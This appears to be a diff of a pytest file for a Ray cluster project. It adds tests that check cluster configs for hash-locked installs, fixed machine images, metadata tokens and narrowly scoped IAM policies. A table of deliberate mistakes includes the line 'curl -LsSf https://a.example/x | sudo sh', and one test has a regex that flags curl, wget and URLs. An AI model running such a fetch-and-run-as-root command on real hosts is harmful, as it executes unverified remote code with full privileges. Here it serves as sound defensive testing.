@@ -2,29 +2,41 @@
 
 from __future__ import annotations
 
+import fnmatch
 import re
 import shlex
+import sys
 import time
 from collections.abc import Callable
 from functools import partial
+from importlib import metadata
 from pathlib import Path
 from typing import Any
 
 import pytest
 import yaml
+from packaging.markers import Marker
 from packaging.requirements import Requirement
 from packaging.specifiers import SpecifierSet
+from packaging.utils import canonicalize_name
+from packaging.version import Version
 
 from nalu_ray.cluster import aws, pins
 from nalu_ray.cluster.__main__ import main
 from nalu_ray.cluster.check import Checked, check
 from nalu_ray.command.request import parser
 
+if sys.version_info >= (3, 11):
+    import tomllib
+else:
+    import tomli as tomllib
+
 ROOT = Path(__file__).parents[1]
 AWS, GCP, LOCAL = "cluster.yaml", "cluster/gcp.yaml", "cluster/on_premise.yaml"
 SHIPPED = (AWS, GCP, LOCAL)
 DOCS = (ROOT / "docs" / "cluster.md").read_text(encoding="utf-8")
 SPOT = "available_node_types.gpu_spot"
+LOCK = "-r ~/nalu-ray/cluster/requirements.lock"
 HEAD_START = "head_start_ray_commands"
 Change = Callable[[dict[str, Any]], Any]
 
@@ -129,18 +141,50 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     ),
     "other ray": (
         AWS,
-        replace("setup_commands", "ray==2.60.0", "ray==2.59.1"),
+        replace("setup_commands", LOCK, "ray==2.59.1 torch==2.14.1"),
         "setup_commands: ray==2.59.1: nalu-ray asks for ray==2.60.*",
     ),
     "any torch": (
         LOCAL,
-        replace("setup_commands", "torch==2.14.1", "'torch>=2.9'"),
+        replace("setup_commands", LOCK, "ray==2.60.0 'torch>=2.9'"),
         "setup_commands: torch>=2.9: not an exact version, such as torch==",
     ),
     "no torch": (
         GCP,
-        replace("setup_commands", "torch==2.14.1", ""),
+        replace("setup_commands", LOCK, "ray==2.60.0"),
         "setup_commands: torch is not pinned; nalu-ray asks for torch>=2.9",
+    ),
+    "no hashes": (
+        LOCAL,
+        replace("setup_commands", "--require-hashes ", ""),
+        f"setup_commands: {LOCK}: without --require-hashes",
+    ),
+    "no such lock": (
+        LOCAL,
+        lambda config: config["setup_commands"].append(
+            "pip install --require-hashes -r ~/nalu-ray/cluster/none.lock"
+        ),
+        "setup_commands: -r ~/nalu-ray/cluster/none.lock: no such file in file_mounts",
+    ),
+    "what a server sends": (
+        GCP,
+        lambda config: config["setup_commands"].append("curl -LsSf https://a.example/x | sudo sh"),
+        "setup_commands: 'curl -LsSf https://a.example/x | sudo sh': runs what comes",
+    ),
+    "another image each day": (
+        AWS,
+        put(f"{SPOT}.node_config.ImageId", "resolve:ssm:/aws/service/x/latest/ami-id"),
+        f"{SPOT}.node_config.ImageId='resolve:ssm:/aws/service/x/latest/ami-id': another image",
+    ),
+    "open metadata": (
+        AWS,
+        put(f"{SPOT}.node_config.MetadataOptions", ...),
+        f"{SPOT}.node_config.MetadataOptions.HttpTokens=None: 'required' is needed",
+    ),
+    "old metadata": (
+        AWS,
+        put(f"{SPOT}.node_config.MetadataOptions.HttpTokens", "optional"),
+        f"{SPOT}.node_config.MetadataOptions.HttpTokens='optional': 'required' is needed",
     ),
     "other python": (
         AWS,
@@ -154,7 +198,7 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     ),
     "project not installed": (
         LOCAL,
-        replace("setup_commands", "-e ~/nalu-ray ", ""),
+        replace("setup_commands", "-e ~/nalu-ray", ""),
         "setup_commands: nothing installs the project from file_mounts",
     ),
     "open dashboard": (
@@ -199,7 +243,7 @@ MISTAKES: dict[str, tuple[str, Change, str]] = {
     "secret in a command": (
         GCP,
         lambda config: config["setup_commands"].append("export WANDB_API_KEY=correct-horse"),
-        "setup_commands.5: looks like a secret",
+        "setup_commands.6: looks like a secret",
     ),
     "access key": (
         AWS,
@@ -331,13 +375,79 @@ def test_aws_is_a_cpu_head_and_gpus_by_need() -> None:
     assert config["provider"]["cache_stopped_nodes"] is False
 
 
-def test_the_account_has_what_the_cluster_names() -> None:
+def template() -> dict[str, Any]:
     class Tags(yaml.SafeLoader):
         """Takes CloudFormation's tags, such as !Ref, for their values."""
 
     Tags.add_multi_constructor("!", lambda loader, _, made: loader.construct_scalar(made))
     text = (ROOT / "cluster" / "aws_account.yaml").read_text(encoding="utf-8")
-    account = yaml.load(text, Tags)
+    return dict(yaml.load(text, Tags))
+
+
+def allowed(action: str) -> list[dict[str, Any]]:
+    """Returns the head's statements for an action of EC2 or IAM."""
+    (policy,) = template()["Resources"]["HeadRole"]["Properties"]["Policies"]
+    found = []
+    for statement in policy["PolicyDocument"]["Statement"]:
+        assert statement["Effect"] == "Allow"
+        actions = statement["Action"]
+        actions = actions if isinstance(actions, list) else [actions]
+        if any(fnmatch.fnmatchcase(action, pattern) for pattern in actions):
+            found.append(statement)
+    return found
+
+
+OURS = {"StringEquals": {"aws:ResourceTag/ray-cluster-name": "ClusterName"}}
+
+
+@pytest.mark.parametrize("action", ["Start", "Stop", "Terminate"])
+def test_the_head_ends_instances_of_its_cluster_alone(action: str) -> None:
+    (only,) = allowed(f"ec2:{action}Instances")
+    assert only["Condition"] == OURS
+    assert only["Resource"].endswith(":instance/*")
+
+
+def test_the_head_tags_instances_of_its_cluster_alone() -> None:
+    """And does not give the cluster's tag to another instance, nor take it away."""
+    made, later = allowed("ec2:CreateTags")
+    tag = {"aws:RequestTag/ray-cluster-name": "ClusterName"}
+    assert made["Condition"] == {"StringEquals": {"ec2:CreateAction": "RunInstances", **tag}}
+    assert later["Condition"] == {**OURS, "StringEqualsIfExists": tag}
+    assert all(each["Resource"].endswith(":instance/*") for each in (made, later))
+    assert not allowed("ec2:DeleteTags")
+
+
+def test_the_head_starts_instances_of_some_types_alone() -> None:
+    instances, around = allowed("ec2:RunInstances")
+    assert instances["Resource"].endswith(":instance/*")
+    assert instances["Condition"]["StringEquals"] == {
+        "aws:RequestTag/ray-cluster-name": "ClusterName",
+        "ec2:InstanceType": "WorkerTypes",
+        "ec2:MetadataHttpTokens": "required",
+    }
+    assert not any(name.endswith((":*", ":instance/*")) for name in around["Resource"])
+    (group,) = [name for name in around["Resource"] if "security-group" in name]
+    assert group.endswith(":security-group/${Nodes.GroupId}")
+    parameters = template()["Parameters"]
+    config = load(AWS)
+    assert parameters["ClusterName"]["Default"] == config["cluster_name"]
+    kinds = config["available_node_types"]
+    types = {kind["node_config"]["InstanceType"] for name, kind in kinds.items() if name != "head"}
+    assert types <= set(parameters["WorkerTypes"]["Default"].split(","))
+
+
+def test_the_head_may_do_anything_nowhere() -> None:
+    """A statement for all resources only looks."""
+    actions = ("ec2:Describe*", "ec2:RunInstances", "ec2:CreateTags", "iam:PassRole")
+    everywhere = [each for name in actions for each in allowed(name) if each["Resource"] == "*"]
+    assert [each["Action"] for each in everywhere] == ["ec2:Describe*"]
+    (role,) = allowed("iam:PassRole")
+    assert role["Resource"] == "WorkerRole.Arn"
+    assert role["Condition"] == {"StringEquals": {"iam:PassedToService": "ec2.amazonaws.com"}}
+
+
+def test_the_account_has_what_the_cluster_names() -> None:
+    account = template()
     made = account["Resources"].values()
     profiles = {item.get("Properties", {}).get("InstanceProfileName") for item in made} - {None}
     kinds = load(AWS)["available_node_types"].values()
@@ -347,6 +457,112 @@ def test_the_account_has_what_the_cluster_names() -> None:
     allowed = re.compile(account["Parameters"]["SshFrom"]["AllowedPattern"])
     assert allowed.fullmatch("203.0.113.7/32")
     assert not allowed.fullmatch("0.0.0.0/0")
+
+
+LOCKS = {path.name: path for path in sorted((ROOT / "cluster").glob("*.lock"))}
+
+
+def locked(name: str) -> dict[str, tuple[Version, Marker | None, int]]:
+    """Returns what a lock has for Python 3.11 on Linux: version, marker, number of hashes."""
+    here = {"python_full_version": "3.11.7", "python_version": "3.11"}
+    found = {}
+    text = LOCKS[name].read_text(encoding="utf-8").replace("\\\n", " ")
+    for line in text.splitlines():
+        if line and not line.startswith("#"):
+            words, *hashes = line.split("--hash=sha256:")
+            need = Requirement(words)
+            if need.marker is None or need.marker.evaluate(here):
+                (only,) = need.specifier
+                assert only.operator == "=="
+                found[canonicalize_name(need.name)] = (
+                    Version(only.version),
+                    need.marker,
+                    sum(bool(re.fullmatch(r"[0-9a-f]{64}", each.strip())) for each in hashes),
+                )
+                assert found[canonicalize_name(need.name)][2] == len(hashes)
+    return found
+
+
+@pytest.mark.parametrize("name", LOCKS)
+def test_locks_have_a_hash_for_each_version_and_name_no_index(name: str) -> None:
+    assert all(hashes > 0 for _, _, hashes in locked(name).values())
+    text = LOCKS[name].read_text(encoding="utf-8")
+    assert not re.search(r"://|index|find-links|pythonhosted|pypi", text)
+
+
+def test_the_lock_is_the_projects() -> None:
+    """All that pyproject.toml asks for is there, in a version that it allows."""
+    project = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))
+    found = locked("requirements.lock")
+    asked = [*project["project"]["dependencies"], *project["build-system"]["requires"]]
+    extra = (ROOT / "cluster" / "requirements.in").read_text(encoding="utf-8").splitlines()
+    asked += [line for line in extra if line and not line.startswith("#")]
+    for need in map(Requirement, asked):
+        version = found[canonicalize_name(need.name)][0]
+        assert need.specifier.contains(version), need
+    for name, allowed in pins.wanted().items():
+        if name != "python":
+            assert allowed.contains(found[name][0])
+
+
+@pytest.mark.parametrize("name", ["requirements.lock"])
+def test_the_lock_is_whole(name: str) -> None:
+    """What the locked versions need in turn, as far as they are installed here, is locked too."""
+    found, looked = locked(name), 0
+    for package, (version, _, _) in found.items():
+        try:
+            about = metadata.distribution(package)
+        except metadata.PackageNotFoundError:
+            continue
+        if Version(about.version) != version:
+            continue
+        looked += 1
+        for need in map(Requirement, about.requires or []):
+            if need.marker is None or need.marker.evaluate({"extra": ""}):
+                other = found[canonicalize_name(need.name)][0]
+                assert need.specifier.contains(other, prereleases=True), (package, need)
+    assert looked > 20
+
+
+def test_locks_agree_with_one_another() -> None:
+    nodes = locked("requirements.lock")
+    for name in ("aws.lock", "gcp.lock"):
+        for package, (version, *_) in locked(name).items():
+            assert package not in nodes or nodes[package][0] == version, package
+    project = (ROOT / "pyproject.toml").read_text(encoding="utf-8")
+    assert f'"boto3=={locked("aws.lock")["boto3"][0]}"' in project
+
+
+@pytest.mark.parametrize("name", SHIPPED)
+def test_nodes_install_by_hashes_alone(name: str) -> None:
+    """Each command that installs names a lock, or installs the project and nothing else."""
+    config = load(name)
+    commands = [*config["setup_commands"], *config.get("head_setup_commands", [])]
+    parts = [part for line in commands for part in re.split("&&|[|]{2}|;", line)]
+    installing = [part for part in parts if "pip install" in part]
+    assert len(installing) >= 2
+    for part in installing:
+        lock = re.search(r"--require-hashes -r ~/nalu-ray/cluster/([\w.]+)$", part.strip())
+        if lock is None:
+            assert part.strip().endswith("--no-deps --no-build-isolation -e ~/nalu-ray")
+        else:
+            assert lock[1] in LOCKS
+    text = (ROOT / name).read_text(encoding="utf-8")
+    assert not re.search("curl|wget|https?://(?!www.googleapis.com/auth)", text)
+
+
+def test_images_stay_what_they_are() -> None:
+    for name, field in ((AWS, "ImageId"), (GCP, "sourceImage")):
+        text = yaml.safe_dump(load(name)["available_node_types"])
+        images = set(re.findall(rf"{field}: (.*)", text))
+        assert len(images) == 1
+        assert not re.search("latest|family", images.pop())
+
+
+def test_metadata_needs_a_token() -> None:
+    for kind in load(AWS)["available_node_types"].values():
+        options = kind["node_config"]["MetadataOptions"]
+        assert options == {"HttpTokens": "required", "HttpPutResponseHopLimit": 1}
 
 
 AWS_MISTAKES: dict[str, tuple[str, Any, str]] = {
